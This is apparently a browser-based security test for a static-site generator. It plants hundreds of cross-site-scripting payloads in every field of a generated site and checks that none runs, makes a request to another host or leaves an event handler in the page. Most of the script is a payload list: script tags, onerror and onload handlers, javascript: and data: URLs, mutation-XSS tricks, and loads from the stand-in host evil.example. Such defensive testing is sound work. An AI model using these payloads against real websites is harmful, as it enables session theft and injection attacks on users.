// Payloads in a real browser: a site with scripts in every field of every format, of which not one may run.
// node tests/reliability/payloads.mjs PROGRAM [--all]: 40 payloads, or 400. Needs what tests/qa/install.sh installs.
//
// Every file of the site is opened, and everything that the search finds is shown. Wrong is a payload that runs, a dialog, a
// request to another host, a handler of events in any element, and an address that would run something.
import { spawnSync } from "node:child_process";
import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { serve } from "../qa/serve.mjs";
import { chromium, executablePath, program } from "../browser/chromium.mjs";

const all = process.argv.includes("--all");
const AT_ONCE = 40, PAGES = 4;

// R is what must not run.
const VECTORS = `<script>R</script>|<SCRIPT SRC=//evil.example/x.js></SCRIPT>|<script type=module>R</script>|<scr<script>ipt>R</script>
<img src=x onerror=R>|<img src=x onerror="R" alt='|<img/src=x/onerror=R>|<image src=x onerror=R>|<img srcset=https://evil.example/x.png>|<img src=//evil.example/x.png>
<svg onload=R>|<svg><script>R</script></svg>|<svg><animate onbegin=R attributeName=x>|<svg><foreignObject><img src=x onerror=R></foreignObject></svg>
<svg><a xlink:href="javascript:R"><text>x</text></a></svg>|<svg><use href="data:image/svg+xml,<svg id='x' onload='R'/>#x"/></svg>|<svg><style><img src=x onerror=R></style>
<math><mtext><table><mglyph><style><img src=x onerror=R></style></mglyph></table></mtext></math>|<math><a xlink:href="javascript:R">x</a></math>|<math href="javascript:R">x</math>
<iframe src="javascript:R"></iframe>|<iframe srcdoc="<script>parent.R</script>"></iframe>|<object data="javascript:R"></object>|<embed src="javascript:R">|<frameset onload=R>
<body onload=R>|<body onpageshow=R>|<details open ontoggle=R>x</details>|<video src=x onerror=R>|<video><source onerror=R></video>|<audio src=x onerror=R>|<input autofocus onfocus=R>
<select autofocus onfocus=R>|<textarea autofocus onfocus=R>|<button autofocus onfocus=R>x</button>|<marquee onstart=R>x</marquee>|<keygen autofocus onfocus=R>|<x tabindex=0 autofocus onfocus=R>x</x>
<a href="javascript:R">x</a>|<a href="JaVaScRiPt:R">x</a>|<a href="&#106;avascript:R">x</a>|<a href="java&Tab;script:R">x</a>|<a href=" javascript:R">x</a>|<a href="data:text/html,<script>R</script>">x</a>|<a href="vbscript:R">x</a>
<form action="javascript:R"><button>x</button></form>|<form><button formaction="javascript:R">x</button></form>|<isindex action="javascript:R">|<base href="https://evil.example/">|<base href="javascript:R//">
<meta http-equiv=refresh content="0;url=javascript:R">|<meta http-equiv=refresh content="0;url=https://evil.example/">|<link rel=stylesheet href=https://evil.example/x.css>|<link rel=import href=data:text/html,R>
<style>@import 'https://evil.example/x.css';</style>|<style>*{background:url(https://evil.example/x)}</style>|<div style="background:url(https://evil.example/x)">x</div>|<div style="width:expression(R)">x</div>
<template><script>R</script></template>|<noscript><p title="</noscript><img src=x onerror=R>"></noscript>|<xmp><p title="</xmp><img src=x onerror=R>">|<!--<img src="--><img src=x onerror=R>//">|<![CDATA[<img src=x onerror=R>]]>
<?xml-stylesheet href="javascript:R"?>|<dialog open onclose=R><form method=dialog><button>x</button></form></dialog>|<p onmouseover=R onclick=R style=position:fixed;inset:0>x</p>|[x](javascript:R)|[x](<java script:R>)
![x](javascript:R)|![x](https://evil.example/x.png)|[x]: javascript:R|<javascript:R>|[[javascript:R]]|![[x.svg|<img src=x onerror=R>]]|{{ R }}{% raw %}<script>R</script>|\\u003cscript\\u003eR\\u003c/script\\u003e|javascript:R`
  .split(/[|\n]/).filter(Boolean);
const entities = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const WRAPS = [
  (v) => v,
  (v) => `$\\operatorname{${v}}$`,
  (v) => `$$\\operatorname*{</mo></math>${v}}$$`,
  (v) => `"'>--></title></textarea></style></script>${v}`,
  entities,
  (v) => `**[${v}](https://a.example/"${v})** \`${v}\``,
];
const payloads = VECTORS.flatMap((vector) => WRAPS.map((wrap) => wrap(vector))).slice(0, 400).map((text, i) => text.replaceAll("R", `ran(${i})`));
if (payloads.length < 400) throw new Error(`only ${payloads.length} payloads`);
const wanted = all ? payloads : payloads.filter((_, i) => i % 10 === Math.floor(i / 10) % 10);

let placed = 0;
/** A pattern with the payload at every `@`, as a string of JSON, YAML and TOML at every `%`, as text of XML at every `&`. */
const fill = (pattern, payload, n) => pattern.replace(/[@%&]/g, (sign) => {
  placed += 1;
  if (sign === "%") return JSON.stringify(payload);
  return sign === "@" ? payload : payload.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
}).replaceAll("№", String(n).padStart(4, "0"));
const joined = (pattern, some, between = "") => some.map((payload, i) => fill(pattern, payload, i)).join(between);

const ENTRY = "## @ № md\n\n(@, @)\nhttps://arxiv.org/abs/2501.1№\nvenue: @\ncode: @\n\n> @\n\n@\n\n- @\n\n> [!note] @\n> @\n\n| @ |\n|-|\n| @ |\n\n```@\n@\n```\n\n```html\n@\n```\n\n![@](x.svg \"@\")\n[@](@)\n[[@]] [@][a№]\n\n[a№]: @\n\nA note[^n№].\n\n[^n№]: @\n\n#@ #lamps\n\n";
const NOTE = "---\ntitle: %\nauthors: [%, %]\ntags: [%]\njournal: %\nurl: %\nabstract: %\n%: %\n---\n\n## @\n\n@\n\n> @\n\n%% @ %%\n\n==@== ^@\n";
const FEED = "<entry><id>http://arxiv.org/abs/2502.1№v1</id><published>2025-03-01T00:00:00Z</published><title>& № atom</title><summary>&</summary><author><name>&</name></author><category term=\"&\"/></entry>";
const BIB = "@article{k№, title = {@ № bib}, author = {@ and @}, journal = {@}, abstract = {@}, keywords = {@}, url = {@}, note = {@}, date = {2025-03-03}}\n";
const PAPER = '{"publishedAt": "2025-03-04T00:00:00.000Z", "paper": {"id": "2504.1№", "title": %, "summary": %, "authors": [{"name": %}], "publishedAt": "2025-03-04T00:00:00.000Z", "githubRepo": %, "projectPage": %, "ai_summary": %, "ai_keywords": [%]}}';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="ran(№)"><title>&</title><script>ran(№)</script><a xlink:href="javascript:ran(№)"><text>&</text></a><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="ran(№)"/></foreignObject><image href="https://evil.example/x.png"/><style>@import "https://evil.example/x.css";</style></svg>';
const name = (payload) => [...payload.replace(/[/\\:\0]/g, "")].slice(0, 60).join("");

/** Writes a site with each of some payloads in every field of every format. */
const write = async (root, some) => {
  const files = {
    "content/2025-03-12.md": `+++\ntitle = ${JSON.stringify(some.join(" "))}\n+++\n\n${some.join("\n\n")}\n\n${joined(ENTRY, some)}`,
    "content/index.md": some.join("\n\n"),
    "bib/l.bib": joined(BIB.slice(1), some.map((payload) => payload.replace(/[{}\\]/g, " ")), "@").replace(/^/, "@"),
    "atom/a.xml": `<feed xmlns="http://www.w3.org/2005/Atom">${joined(FEED, some)}</feed>`,
    "json/d.json": `[${joined(PAPER, some, ",")}]`,
    "daily/d.txt": `Daily Papers\n\nMar 5, 2025\n\n${joined("@ № daily\n\n@\n\n  • 3 authors\n\n", some)}`,
    "page/page.txt": `# 2025-04-02\n\n${joined("@ № page\n\n(@, @)\n\n@\n\n@\n\n#@\n\n", some)}`,
    "weeks/README.md": `# ${some[0]}\n\n## Papers of the Week (January 6 - January 12) - 2025\n| **Paper** | **Links** |\n| - | - |\n${joined("| №) @ № - @ | [Paper](https://arxiv.org/abs/2503.1№), [@](@) |\n", some)}`,
  };
  for (const [i, payload] of some.entries()) {
    files[`content/page-${i}.md`] = fill("+++\ntitle = %\n+++\n\n# @\n\n@\n\n![@](drawing-№.svg)\n", payload, i).replace("drawing-" + String(i).padStart(4, "0"), `drawing-${i}`);
    files[`content/drawing-${i}.svg`] = fill(SVG, payload, i).replaceAll("%40", "@");
    files[`vault/250314 ${i} front.md`] = fill(NOTE, payload, i);
    files[`vault/250315 ${i} ${name(payload)}.md`] = fill("# @ № note\n\n(@)\n\n@\n\nTags: #@\n", payload, i);
  }
  const sources = { bib: "bibtex", atom: "arxiv-atom", json: "daily-papers-json", daily: "daily-papers", page: "digest-page", weeks: "papers-of-the-week", vault: "notes" };
  const text = JSON.stringify(some.join(" "));
  files["config.toml"] = `title = ${text}\ndescription = ${text}\nbase_url = "https://example.org/notes/"\nlanguages = ["en", "ko"]\n[author]\nname = ${text}\nemail = ${text}\n[tag.lamps]\nlabel = ${text}\n`
    + Object.entries(sources).map(([path, format]) => `[[sources]]\npath = "${path}"\nformat = "${format}"\n`).join("");
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), content);
  }
};

const wrong = new Set();
const browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
const context = await browser.newContext();
await context.exposeFunction("__ran", (what) => wrong.add(`ran: ${payloads[what] ?? what}`));
await context.addInitScript(() => { window.ran = (what) => { window.__ran(what); return ""; }; });
await context.route("**", (route) => {
  const { protocol, hostname } = new URL(route.request().url());
  if (protocol.startsWith("http") && hostname !== "127.0.0.1") wrong.add(`asked for ${route.request().url()}`);
  return hostname === "127.0.0.1" || !protocol.startsWith("http") ? route.continue() : route.abort();
});
context.on("dialog", (dialog) => { wrong.add(`dialog: ${dialog.message()}`); dialog.dismiss(); });

/** What stands in the document and would run if somebody touched it. */
const lurking = () => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const bare = value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
      const runs = /^(javascript|vbscript|data:text|data:application)/.test(bare) && /^(.*href|src|action|formaction|data|poster)$/.test(name);
      if (/^on/.test(name) || runs || name === "srcdoc") found.push(`${element.outerHTML.slice(0, 200)}`);
    }
  }
  return found;
};
const look = async (page, path) => {
  for (const found of await page.evaluate(lurking)) wrong.add(`${path}: ${found}`);
};

/** Opens an address. Redirects come in between, those of the page before first; what a browser would rather save than show
 * runs nothing. */
const visit = async (page, address, again = 3) => {
  try {
    await page.goto(address, { waitUntil: "load" });
  } catch (error) {
    const interrupted = /interrupted by another navigation/.test(String(error));
    if (interrupted && again > 0) return visit(page, address, again - 1);
    if (!interrupted && !/Download is starting|ERR_ABORTED/.test(String(error))) throw error;
  }
};

// What never trips would say nothing.
const trial = await context.newPage();
await trial.setContent('<img src="https://evil.example/x.png" onerror="ran(0)">');
await trial.waitForFunction(() => document.images[0].complete);
await look(trial, "trial");
if (wrong.size !== 3) throw new Error(`the trial found ${[...wrong]}`);
wrong.clear();
await trial.close();

let opened = 0, shown = 0;
for (let from = 0; from < wanted.length; from += AT_ONCE) {
  const some = wanted.slice(from, from + AT_ONCE);
  const root = await mkdtemp(join(tmpdir(), "offprint-payloads-"));
  await write(root, some);
  const { status, stderr } = spawnSync(program, ["build", "--root", root, "--quiet"], { encoding: "utf8", maxBuffer: 1 << 28 });
  if (status !== 0) throw new Error(`the site was not built:\n${stderr.split(/\n(?=error)/).filter((part) => part.startsWith("error")).join("\n")}`);
  const entries = await readdir(join(root, "public"), { recursive: true, withFileTypes: true });
  const paths = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name).slice(join(root, "public").length + 1));
  const queue = paths.filter((path) => /\.(html|xml|svg|json|txt|md|bib)$/.test(path));
  const server = await serve(join(root, "public"), "/notes/");
  const open = async () => {
    let page = await context.newPage();
    for (let path; (path = queue.pop()) !== undefined;) {
      const address = server.url + path.split("/").map(encodeURIComponent).join("/").replace(/index\.html$/, "");
      await visit(page, address).catch(async (error) => {
        if (!/crashed/i.test(String(error))) return wrong.add(`${path}: ${error}`);
        // A browser's process that ended takes its page along; a file that ends it again is wrong.
        await page.close().catch(() => {});
        page = await context.newPage();
        await visit(page, address).catch((again) => wrong.add(`${path}: ${again}`));
      });
      await look(page, path).catch(() => {});
      opened += 1;
    }
    await page.close();
  };
  await Promise.all(Array.from({ length: PAGES }, open));
  const page = await context.newPage();
  for (const query of ["lamps", "script", "ran", "evil", "note", "2025-03-12", "img"]) {
    await page.goto(`${server.url}search/?q=${query}`);
    await page.waitForSelector(".found:not([aria-busy])", { state: "attached" });
    while (await page.locator(".further").isVisible()) {
      const before = await page.locator(".found li[data-number]").count();
      await page.locator(".further").click();
      await page.waitForFunction((before) => document.querySelectorAll(".found li[data-number]").length > before, before);
    }
    shown += await page.locator(".found li[data-number]").count();
    await page.waitForLoadState("networkidle");
    await look(page, `search for ${query}`);
  }
  await page.close();
  await server.close();
  await rm(root, { recursive: true, force: true });
}
await browser.close();
for (const what of wrong) console.error(`WRONG: ${what}`);
console.log(`${wanted.length} payloads in ${placed} places: ${opened} files opened, ${shown} results of the search shown, ${wrong.size} wrong`);
process.exit(wrong.size > 0 || opened === 0 || shown === 0 ? 1 : 0);
